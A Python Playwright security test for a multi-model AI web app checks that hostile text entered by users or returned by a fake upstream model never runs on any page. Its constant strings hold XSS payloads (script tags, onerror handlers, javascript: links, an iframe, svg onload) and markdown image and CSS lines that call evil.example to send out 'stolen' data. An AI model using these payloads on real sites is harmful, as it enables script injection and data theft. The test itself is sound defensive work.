"""Whatever a model or a person can fill in holds an attack: every page shows it as text, and nothing of it runs."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Dialog, Page, Request, expect

from tests.browser.test_accounts import make_token, sign_up
from tests.site_process import Site
from tests.upstream import Script, Upstream, candidates_in, task_of

pytestmark = pytest.mark.browser
# Short enough for every name; it closes an attribute and a tag first.
NAME = "\"'><img src=x onerror=pwned=1><script>pwned=1</script>{{7*7}}"
TEXT = (
    f"{NAME}\n\n# {NAME}\n\n[a](javascript:pwned=1) [b](data:text/html,<script>pwned=1</script>) <a href='javascript:pwned=1'>c</a>\n"
    "![d](https://evil.example/?q=stolen) ![e][f] <iframe src=//evil.example></iframe> <svg/onload=pwned=1>\n\n"
    "[f]: https://evil.example/f.png\n\n<style>@import '//evil.example';</style> <base href=//evil.example>\n\n"
    "| a | b |\n| --- | --- |\n| <img src=x onerror=pwned=1> | `<script>pwned=1</script>` |\n\n"
    "```html\n</code></pre><script>pwned=1</script>\n```\n\n$\\href{javascript:pwned=1}{x}$\n"
)
# Doors that change or download something, or that the crawl would be signed out by.
_NOT_PAGES = re.compile(r"/(logout|reauthenticate)/|\.(md|csv|json|jsonl)$|/static/|/export/$|/openrouter/")


@pytest.fixture(scope="module")
def upstream() -> Iterator[Upstream]:
    """Give an upstream of which everything that it says is an attack."""
    server = Upstream()
    server.scripts |= {
        f"ada {NAME}": Script(pieces=[TEXT[:40], TEXT[40:]]),
        "bea": Script(pieces=[f"Bea. {TEXT}"], origin={"provider": NAME, "model": NAME}),
        "cyd": Script(status=400, body={"error": {"message": TEXT, "code": NAME, "type": NAME}}),
        f"judge {NAME}": judged,
    }
    yield server
    server.close()


def judged(body: dict[str, Any]) -> Script:
    """Judge as an attack would: in each field of each reply."""
    match task_of(body):
        case "merge":
            return Script([f"Merged. {TEXT}"])
        case "say":
            return Script([f"- {TEXT}"])
    letters = list(candidates_in(body))
    criteria = [{"name": NAME, "met": True, "quote": NAME}]
    if task_of(body) == "score":
        return Script([json.dumps({"reasoning": TEXT, "criteria": criteria})])
    point = {"point": TEXT, "labels": letters[:2], "label": letters[0], "insight": TEXT}
    stances = [{"label": letter, "stance": TEXT} for letter in letters]
    reply = {
        "reasoning": TEXT,
        "candidates": [{"label": letter, "criteria": criteria} for letter in letters],
        "consensus": [TEXT],
        "contradictions": [{"topic": TEXT, "stances": stances}],
        "partial_coverage": [point],
        "unique_insights": [point],
        "blind_spots": [TEXT],
        "winner": letters[0],
        "strength": "clear",
    }
    return Script([f"{TEXT}\n```json\n{json.dumps(reply)}\n```"])


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, upstream: Upstream) -> Iterator[Site]:
    """Give a site of this module, which may reach the upstream."""
    data_dir = tmp_path_factory.mktemp("hostile")
    running = Site(data_dir, FUSION_PRIVATE_UPSTREAMS=upstream.host_port, FUSION_REHEARSAL="0")
    try:
        yield running.start()
    finally:
        running.close()


def filled(site: Site, token: str, upstream: Upstream) -> dict[str, Any]:
    """Fill every field of every thing that a team keeps, start a run of it, and share and discuss it; gives run and link."""
    headers = {"Authorization": f"Bearer {token}"}
    with httpx.Client(base_url=f"{site.url}/api/v1", headers=headers, trust_env=False, timeout=30) as rest:

        def make(path: str, **fields: Any) -> dict[str, Any]:
            answer = rest.post(f"/{path}", json=fields)
            assert answer.status_code == 201, answer.text
            return dict(answer.json())

        where = {"connection": make("connections", name=NAME, kind="openai", base_url=upstream.url)["id"]}
        models = (f"ada {NAME}", "bea", "cyd")
        members = [
            {**where, "model": model, "label": NAME, "system": TEXT, "aspect": NAME} for model in models
        ]
        pool = make("pools", name=NAME, members=members)["id"]
        criteria = [{"name": NAME, "description": TEXT[:200], "weight": 1}]
        judge = make(
            "judges", name=NAME, **where, model=f"judge {NAME}", criteria=criteria, instructions=TEXT
        )["id"]
        made = make("presets", name=NAME, pool=pool, judge=judge, mode="merge", do_no_harm=False)
        run = make("runs", preset=made["id"], prompt=TEXT)["id"]
        with rest.stream("GET", f"/runs/{run}/events") as events:
            assert "run.finished" in "".join(events.iter_text())
        state = rest.get(f"/runs/{run}").json()
        assert (state["state"], state["fused"]["source"]) == ("done", "merge")
        make(f"runs/{run}/comments", text=TEXT)
        shows = ["fused", "verdict", "members", "prompt", "cost", "comments"]
        return {"run": run, "link": make(f"runs/{run}/shares", show=shows)["url"]}


def crawled(page: Page, site: Site, starts: list[str]) -> set[str]:
    """Follow every link from some pages, one address of each kind, and give the kinds that were seen."""
    kinds: set[str] = set()
    waiting = list(starts)
    while waiting:
        path = waiting.pop(0)
        kind = re.sub(r"/(\d+|[a-z0-9]{24}|[\w-]{43})(?=/)", "/*", urlsplit(path).path)
        if kind in kinds or _NOT_PAGES.search(kind):
            continue
        kinds.add(kind)
        response = page.goto(path)
        assert response is not None
        assert (path, response.status) == (path, 200)
        assert page.evaluate("window.pwned") is None, path
        strange = page.locator(
            "img:not([src^='/']), iframe, script:not([src], [type='application/json']), base, [onerror], [onload]"
        )
        assert (path, strange.count()) == (path, 0)
        hrefs = page.locator("a[href]").evaluate_all("links => links.map(link => link.href)")
        assert not [href for href in hrefs if not re.match(r"https?:|mailto:", href)], path
        waiting += [href.split("#")[0] for href in hrefs if href.startswith(f"{site.url}/")]
    return kinds


def test_nothing_that_is_filled_in_runs_on_any_page(page: Page, site: Site, upstream: Upstream) -> None:
    """The `page` fixture fails the test on any breach of the security policy, which would be an attack half way in."""
    elsewhere: list[str] = []
    dialogs: list[str] = []

    def seen(request: Request) -> None:
        if not request.url.startswith((site.url, site.url.replace("http", "ws"))):
            elsewhere.append(request.url)

    def heard(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("request", seen)
    page.on("dialog", heard)
    sign_up(page, "hostile@example.com")
    made = filled(site, make_token(page, NAME), upstream)
    page.goto("/team/settings/")
    page.get_by_label("Name").first.fill(NAME)
    page.get_by_role("button", name=re.compile("Rename|Save the name|Save name")).first.click()
    expect(page.locator(".toast")).to_be_visible()
    page.goto(f"/runs/{made['run']}/")
    expect(page.locator("#fused-body")).to_contain_text("pwned=1")
    expect(page.locator("#verdict")).to_contain_text("pwned=1")
    kinds = crawled(page, site, ["/", f"/runs/{made['run']}/", made["link"], "/team/", "/insights/"])
    needed = {
        "/runs/*/",
        "/runs/*/versions/*/judged/",
        "/runs/*/share/",
        "/s/*/",
        "/insights/",
        "/team/audit/",
    }
    needed |= {f"/{thing}/*/" for thing in ("pools", "judges", "presets", "connections")}
    assert needed <= kinds, sorted(kinds)
    assert (elsewhere, dialogs) == ([], [])
